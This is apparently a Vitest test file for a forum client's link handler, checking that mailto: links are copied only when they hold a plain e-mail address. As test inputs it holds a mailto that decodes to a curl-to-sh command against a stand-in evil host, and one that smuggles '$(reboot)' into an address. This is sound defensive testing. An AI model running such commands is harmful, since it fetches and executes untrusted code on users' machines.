import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { isPlainEmailAddress, openPostLink } from '../../../renderer/lib/open-link';
import { platform } from '../../../renderer/lib/platform';
import { resetUiStore, useUi } from '../../../renderer/store';

const writeText = vi.fn(async (_text: string) => undefined);
beforeEach(() => {
  writeText.mockClear();
  Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
});
afterEach(() => {
  vi.restoreAllMocks();
  resetUiStore();
});

const lastNotice = () => useUi.getState().notices.at(-1);

describe('openPostLink', () => {
  it('opens web links through the platform’s checked opener', async () => {
    const open = vi.spyOn(platform, 'openExternal').mockResolvedValue({ opened: true });
    await openPostLink('https://discourse.nixos.org/t/56458');
    expect(open).toHaveBeenCalledExactlyOnceWith('https://discourse.nixos.org/t/56458');
  });

  it('copies e-mail addresses instead of handing mailto: to the system', async () => {
    const open = vi.spyOn(platform, 'openExternal');
    await openPostLink('mailto:steering@nixos.org?subject=x');
    expect(open).not.toHaveBeenCalled();
    expect(writeText).toHaveBeenCalledWith('steering@nixos.org');
    expect(lastNotice()?.text).toContain('steering@nixos.org');
  });

  it('tells the member when a link was refused', async () => {
    vi.spyOn(platform, 'openExternal').mockResolvedValue({ opened: false });
    await openPostLink('https://user:pw@example.org/');
    expect(lastNotice()).toMatchObject({ tone: 'error' });
  });
});

// Issue 20: a mailto: link's "address" is any text the post's author chose.
describe('an e-mail link whose address is not an e-mail address', () => {
  it.each([
    ['a shell command', 'mailto:curl%20https%3A%2F%2Fevil.example%2Fx%20%7C%20sh', 'curl https://evil.example/x | sh'],
    ['a command hidden in RFC 5322 characters', 'mailto:a%24(reboot)%7Csh@example.org', 'a$(reboot)|sh@example.org'],
    ['several addresses', 'mailto:a@example.org,b@example.org', 'a@example.org,b@example.org'],
    ['a name without a host', 'mailto:steering', 'steering'],
  ])('(%s) is shown and not copied', async (_what, url, address) => {
    await openPostLink(url);
    expect(writeText).not.toHaveBeenCalled();
    expect(lastNotice()).toMatchObject({ tone: 'error', text: `This e-mail link’s address is “${address}”, which is not an e-mail address, so nothing was copied.` });
  });

  it('is shown on one line and cut to a readable length', async () => {
    await openPostLink(`mailto:${encodeURIComponent(`line one\nline two ${'x'.repeat(300)}`)}`);
    const text = lastNotice()!.text;
    expect(text).not.toContain('\n');
    expect(text).toContain('“line one line two xxx');
    expect(text.length).toBeLessThan(220);
    expect(writeText).not.toHaveBeenCalled();
  });

  it('with broken escapes says the address cannot be read, and copies nothing', async () => {
    await openPostLink('mailto:%E0%A4%A');
    expect(writeText).not.toHaveBeenCalled();
    expect(lastNotice()?.text).toMatch(/address cannot be read.*nothing was copied/);
  });

  it('that is empty says so', async () => {
    await openPostLink('mailto:?subject=hello');
    expect(lastNotice()?.text).toMatch(/address is empty/);
  });
});

describe('isPlainEmailAddress', () => {
  it.each(['steering@nixos.org', 'first.last+sc@mail.example.co.uk', 'a_b-c%d@x-y.example', 'x@xn--bcher-kva.example', 'x@example.xn--p1ai'])('accepts %s', (address) => {
    expect(isPlainEmailAddress(address)).toBe(true);
  });

  it.each([
    '', '@example.org', 'a@', 'a@localhost', 'a@example.o', 'a@-example.org', 'a@example-.org', 'a@exa_mple.org', '.a@example.org', 'a.@example.org', 'a..b@example.org',
    'a b@example.org', 'a;b@example.org', 'a|b@example.org', 'a$b@example.org', "a'b@example.org", 'a`b`@example.org', 'a{b}@example.org', 'a@b@example.org',
    'ü@example.org', 'a@bücher.example', `${'a'.repeat(65)}@example.org`, `a@${'b'.repeat(250)}.org`, 'a@example.org\n', 'a@1.2.3.4', 'a@[127.0.0.1]',
  ])('refuses %j', (address) => {
    expect(isPlainEmailAddress(address)).toBe(false);
  });
});
